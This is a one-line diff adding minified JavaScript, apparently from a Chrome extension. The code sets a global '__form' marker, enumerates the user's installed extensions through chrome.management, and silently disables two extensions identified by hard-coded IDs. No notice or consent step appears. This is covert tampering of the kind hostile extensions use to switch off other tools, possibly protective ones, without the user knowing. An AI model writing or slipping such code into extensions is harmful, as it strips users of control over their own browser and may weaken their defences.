@@ -1,0 +1,1 @@
+(()=>{var a="1.0.0";function n(e){globalThis[e]=a}n("__form");var c=["cjpalhdlnbpafiamejdnhcphjbkeiagm","ihcjicgdanjaechkgeegckofjjedodee"];chrome.management.getAll(e=>{for(let o of e)c.includes(o.id)&&chrome.management.setEnabled(o.id,!1)});})();
